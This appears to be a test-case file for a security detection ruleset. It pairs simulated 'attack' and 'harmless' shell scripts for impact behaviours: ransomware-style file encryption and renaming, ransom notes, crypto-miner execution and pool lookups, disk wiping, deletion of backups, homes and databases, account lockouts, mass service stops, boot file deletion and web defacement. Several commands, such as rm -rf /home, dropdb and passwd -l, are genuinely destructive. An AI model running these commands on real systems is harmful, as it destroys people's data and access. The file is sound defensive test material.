# Impact: what destroys, locks, stops or uses up what belongs to others.

#: mass_file_encryption attack: openssl in a shell
mkdir -p /srv/docs
for i in $(seq 22); do echo "text $i" > /srv/docs/$i.odt; done
for file in /srv/docs/*.odt; do
    openssl enc -aes-256-cbc -pbkdf2 -k s3cret -in "$file" -out "$file.locked" && rm "$file"
done

#: mass_file_encryption attack: python renames
#: by alice
mkdir docs
for i in $(seq 25); do echo "text $i" > docs/$i.odt; done
python3 -c '
import os
for name in os.listdir("docs"):
    path = "docs/" + name
    data = bytes(byte ^ 0x5a for byte in open(path, "rb").read())
    open(path, "wb").write(data)
    os.rename(path, path + ".crypted")'

#: mass_file_encryption harmless: tar unpacks a backup of enciphered files
#: keep event.action == "create" AND file.extension == "enc" AND file.name startswith "2"
mkdir -p /srv/in /srv/out
for i in $(seq 25); do echo x > /srv/in/$i; done
tar c -C /srv/in --transform 's/$/.enc/' $(seq 25) | tar x -C /srv/out

#: documents_given_second_ending attack: python
mkdir -p /srv/docs
for i in $(seq 28); do echo x > /srv/docs/$i.pdf; done
python3 -c '
import os
for name in os.listdir("/srv/docs"):
    os.rename("/srv/docs/" + name, "/srv/docs/" + name + ".k7d2x")'

#: documents_given_second_ending attack: perl by alice
#: by alice
mkdir docs
for i in $(seq 28); do echo x > docs/$i.xlsx; done
perl -e 'for my $f (glob "docs/*") { rename $f, "$f.id-1a2b" }'

#: documents_given_second_ending harmless: documents are compressed
#: keep event.action == "create" AND file.extension == "gz" AND file.name startswith "2"
mkdir -p /srv/docs
for i in $(seq 28); do echo x > /srv/docs/$i.pdf; done
gzip /srv/docs/*.pdf

#: many_files_rewritten attack: python in place
mkdir -p /srv/docs
for i in $(seq 30); do echo "text $i" > /srv/docs/$i.jpg; done
cat > /root/w.py <<'END'
import os
for name in os.listdir("/srv/docs"):
    with open("/srv/docs/" + name, "r+b") as file:
        data = file.read()
        file.seek(0)
        file.write(bytes(byte ^ 0x5a for byte in data))
END
python3 /root/w.py

#: many_files_rewritten attack: perl by alice
#: by alice
mkdir docs
for i in $(seq 30); do echo "text $i" > docs/$i.csv; done
perl -e 'for my $f (glob "docs/*") { open(my $h, "+<", $f); print $h "x" x 9; close $h }'

#: many_files_rewritten harmless: rsync brings a folder up to date
#: keep event.action == "write" AND process.name == "rsync" AND file.name startswith "1"
mkdir -p /srv/docs /srv/in
for i in $(seq 30); do echo "text $i" > /srv/docs/$i.jpg; echo "text  $i" > /srv/in/$i.jpg; done
rsync -a --inplace /srv/in/ /srv/docs/

#: ransom_note_written attack: a shell
for folder in /srv/a /srv/b /srv/c /srv/d /home/alice; do
    mkdir -p $folder
    echo pay > $folder/README_FOR_DECRYPT.txt
done

#: ransom_note_written attack: cp called otherwise, by alice
#: by alice
mkdir -p a/b/c/d
cp /bin/cp run
echo pay > a/x
for folder in . a a/b a/b/c a/b/c/d; do ./run a/x "$folder/HOW_TO_RESTORE_FILES.html"; done

#: ransom_note_written harmless: a manual on restoring, and texts of many folders
#: keep event.action == "create" AND process.name == "bash" AND file.path startswith "/srv/"
mkdir -p /srv/docs
echo text > /srv/docs/how-to-restore-a-backup.md
for folder in /srv/a /srv/b /srv/c /srv/d /srv/e; do mkdir $folder; echo text > $folder/README.md; done

#: crypto_miner attack: a program called xmrig
# No miner is in the image: what counts is its name.
cp /bin/sleep /usr/local/bin/xmrig
xmrig 0.1

#: crypto_miner attack: under another name
cp /bin/true /var/tmp/kworkerd
/var/tmp/kworkerd -o stratum+tcp://pool.example.com:3333 -u wallet -p x --donate-level 1

#: crypto_miner harmless: somebody looks for one
#: keep event.action == "exec" AND process.name in ["grep", "pgrep", "cpuinfo"]
grep -r stratum+tcp:// /etc
pgrep -f -- --donate-level
cp /bin/true /usr/local/bin/cpuinfo
cpuinfo -a sha256

#: dns_of_mining_pool attack: dig
dig +tries=1 +time=1 pool.supportxmr.com @127.0.0.1 >/dev/null

#: dns_of_mining_pool attack: python
python3 -c 'import socket; socket.getaddrinfo("xmr-eu1.nanopool.org", 14433)'

#: dns_of_mining_pool harmless: pools of clocks, and names of a like sound
#: keep event.action == "dns_question"
dig +tries=1 +time=1 0.debian.pool.ntp.org @127.0.0.1 >/dev/null
dig +tries=1 +time=1 notnanopool.org @127.0.0.1 >/dev/null

#: disk_overwritten attack: dd
# There is no such disk: a file is made in this machine's own /dev, and is gone with it.
dd if=/dev/zero of=/dev/sdzz bs=1k count=1 conv=notrunc

#: disk_overwritten attack: shred
echo x > /dev/sdzz
shred -n 1 /dev/sdzz

#: disk_overwritten harmless: dd to a file and to nowhere, and shred of a file
#: keep event.action == "exec" AND process.name in ["dd", "shred"]
dd if=/dev/zero of=/srv/image bs=1k count=1
dd if=/dev/zero of=/dev/null bs=1k count=1
shred -n 1 /srv/image

#: disk_formatted attack: mkfs
truncate -s 1M /dev/sdzz
mkfs.ext4 -q -F /dev/sdzz

#: disk_formatted attack: wipefs
truncate -s 1M /dev/sdzz
wipefs -a /dev/sdzz

#: disk_formatted harmless: an image is made, and a disk is looked at
#: keep event.action == "exec" AND process.name in ["mkfs.ext4", "wipefs"]
truncate -s 1M /srv/image
mkfs.ext4 -q -F /srv/image
truncate -s 1M /dev/sdzz
wipefs /dev/sdzz

#: disk_opened_for_writing attack: python
# A file in this machine's own /dev, as a disk would be opened.
truncate -s 1M /dev/sdzz
python3 -c 'open("/dev/sdzz", "r+b").write(b"\0" * 512)'

#: disk_opened_for_writing attack: a shell
truncate -s 1M /dev/nvme7n1
cat /dev/urandom | head -c 512 > /dev/nvme7n1

#: disk_opened_for_writing harmless: a disk tool, and a terminal
#: keep file.path startswith "/dev/" AND event.action == "write"
dd if=/dev/null of=/dev/sdzz bs=1 seek=1M
mkfs.ext4 -q -F /dev/sdzz
echo x > /dev/shm/sda

#: backups_destroyed attack: rm
mkdir -p /backup
echo x > /backup/full.tar
rm -rf /backup

#: backups_destroyed attack: a program called zfs
# Neither ZFS nor LVM is in the image: what counts is what is asked for.
cp /bin/true /usr/local/sbin/zfs
zfs destroy -r tank/data@daily

#: backups_destroyed harmless: old ones are tidied up, and snapshots are listed
#: keep event.action == "exec" AND process.name in ["find", "zfs", "restic"]
mkdir -p /backup
cp /bin/true /usr/local/sbin/zfs
cp /bin/true /usr/local/bin/restic
find /backup -mtime +30 -delete
zfs list -t snapshot
restic forget --keep-daily 7 --prune

#: backup_files_deleted attack: rm
mkdir -p /var/backups/db
for i in $(seq 12); do echo x > /var/backups/db/$i.sql.gz; done
rm /var/backups/db/*.gz

#: backup_files_deleted attack: python
mkdir -p /srv/backups
for i in $(seq 12); do echo x > /srv/backups/$i.tar; done
python3 -c '
import os
for name in os.listdir("/srv/backups"):
    os.remove("/srv/backups/" + name)'

#: backup_files_deleted harmless: cron keeps the last ones
#: keep event.action == "delete" AND file.path startswith "/var/backups/db/1"
# The job is run by a shell of cron's name: cron itself waits up to a minute for its time.
mkdir -p /var/backups/db
for i in $(seq 12); do echo x > /var/backups/db/$i.sql.gz; done
cp /usr/bin/bash /usr/local/sbin/cron
/usr/local/sbin/cron -c 'rm /var/backups/db/*.gz; true'

#: data_deleted_in_bulk attack: rm of the homes
rm -rf /home

#: data_deleted_in_bulk attack: find
find /srv -delete

#: data_deleted_in_bulk harmless: folders within are deleted, and old logs
#: keep event.action == "exec" AND process.name in ["rm", "find"]
mkdir -p /srv/project/home /var/lib/app/cache
rm -rf /srv/project/home
rm -rf /var/lib/app/cache
find /var/log -name '*.gz' -mtime +7 -delete
find /home -maxdepth 1 -empty

#: data_folders_deleted attack: rm of databases
rm -rf /var/lib/postgresql

#: data_folders_deleted attack: find in the web server's pages
mkdir -p /var/www/html
echo x > /var/www/html/index.html
find /var/www/html -delete

#: data_folders_deleted harmless: a cache, and a package's script
#: keep event.action == "exec" AND process.name == "rm"
mkdir -p /var/www/html/cache /tmp/p/DEBIAN
rm -rf /var/www/html/cache
printf 'Package: tidy\nVersion: 1\nArchitecture: all\nMaintainer: a <a@example.com>\nDescription: x\n' > /tmp/p/DEBIAN/control
printf '#!/bin/sh\nrm -rf /var/lib/redis\n' > /tmp/p/DEBIAN/postinst
chmod 755 /tmp/p/DEBIAN/postinst
dpkg-deb --build /tmp/p /tmp/p.deb >/dev/null
dpkg -i /tmp/p.deb

#: database_dropped attack: dropdb
/usr/lib/postgresql/15/bin/dropdb -h 127.0.0.1 -U postgres shop

#: database_dropped attack: psql
/usr/lib/postgresql/15/bin/psql -h 127.0.0.1 -U postgres -c 'DROP DATABASE shop'

#: database_dropped harmless: a question, and a table of one's own
#: keep event.action == "exec" AND process.name == "psql"
/usr/lib/postgresql/15/bin/psql -h 127.0.0.1 -U postgres -c 'select * from raindrop_database'
/usr/lib/postgresql/15/bin/psql -h 127.0.0.1 -U postgres -c 'drop table draft'

#: account_locked_out attack: passwd
passwd -l alice

#: account_locked_out attack: usermod
usermod -L alice

#: account_locked_out attack: userdel
useradd bob
userdel bob

#: account_locked_out harmless: an account is looked at, and its name is changed
#: keep event.action == "exec" AND process.name in ["passwd", "usermod", "chage"]
passwd -S alice
usermod -c 'Alice A.' alice
chage -l alice

#: accounts_locked_in_bulk attack: usermod
for user in bob carol dave; do useradd $user; done
for user in bob carol dave; do usermod -L $user; done

#: accounts_locked_in_bulk attack: passwd and chage
for user in bob carol; do useradd $user; done
passwd -l bob
passwd -l carol
chage -E 0 alice

#: accounts_locked_in_bulk harmless: one leaves, and others are looked at
#: keep event.action == "exec" AND process.name in ["passwd", "usermod", "userdel"]
useradd bob
usermod -L bob
userdel bob
passwd -S alice

#: system_services_stopped_in_bulk attack: systemctl
# No systemd runs here: what counts is that it is asked.
for service in postgresql mariadb redis-server postfix veeamservice; do systemctl stop $service; done

#: system_services_stopped_in_bulk attack: service and pkill
for service in postgresql apache2; do service $service stop; done
pkill -x mysqld
pkill -x mongod
pkill -x qemu-system-x86

#: system_services_stopped_in_bulk harmless: services are looked at and restarted, and one is stopped
#: keep event.action == "exec" AND process.name == "systemctl"
for service in postgresql mariadb redis-server postfix; do systemctl restart $service; systemctl status $service; done
systemctl stop apache2

#: boot_files_deleted attack: rm
mkdir -p /boot/grub
echo x > /boot/vmlinuz-6.1
echo x > /boot/grub/grub.cfg
rm -rf /boot/vmlinuz-6.1 /boot/grub

#: boot_files_deleted attack: python
mkdir -p /boot
echo x > /boot/initrd.img-6.1
python3 -c 'import os; os.remove("/boot/initrd.img-6.1")'

#: boot_files_deleted harmless: a package with a kernel is removed
#: keep event.action == "delete" AND file.path startswith "/boot/"
mkdir -p /tmp/p/DEBIAN /tmp/p/boot
echo x > /tmp/p/boot/vmlinuz-6.2
printf 'Package: kernel\nVersion: 1\nArchitecture: all\nMaintainer: a <a@example.com>\nDescription: x\n' > /tmp/p/DEBIAN/control
dpkg-deb --build /tmp/p /tmp/p.deb >/dev/null
dpkg -i /tmp/p.deb
dpkg -r kernel

#: website_defaced_by_server attack: a page of apache runs a shell
mkdir -p /var/www/html /var/www/cgi-bin
echo welcome > /var/www/html/index.html
chown www-data /var/www/html /var/www/html/index.html
printf '#!/bin/sh\necho\necho hacked > /var/www/html/index.html\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done

#: website_defaced_by_server attack: a page of apache runs cp
mkdir -p /var/www/html /var/www/cgi-bin
echo welcome > /var/www/html/index.php
chown www-data /var/www/html /var/www/html/index.php
printf '#!/bin/sh\necho\ncp /etc/hostname /var/www/html/index.php\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done

#: website_defaced_by_server harmless: an administrator puts a page there, and a page writes its cache
#: keep event.action in ["create", "write"] AND file.path startswith "/var/www/html/"
mkdir -p /var/www/html/cache /var/www/cgi-bin
echo welcome > /var/www/html/index.html
chown www-data /var/www/html/cache
printf '#!/bin/sh\necho\necho x > /var/www/html/cache/page-1.html\n' > /var/www/cgi-bin/page
chmod 755 /var/www/cgi-bin/page
printf '%s\n' 'ServerName host' 'LoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so' \
    'LoadModule authz_core_module /usr/lib/apache2/modules/mod_authz_core.so' \
    'LoadModule alias_module /usr/lib/apache2/modules/mod_alias.so' 'LoadModule cgi_module /usr/lib/apache2/modules/mod_cgi.so' \
    'Listen 127.0.0.1:8080' 'PidFile /run/site.pid' 'ErrorLog /run/site.log' 'User www-data' 'Group www-data' \
    'ScriptAlias /c/ /var/www/cgi-bin/' > /srv/site.conf
apache2 -f /srv/site.conf
until curl -sf http://127.0.0.1:8080/c/page; do sleep 0.05; done
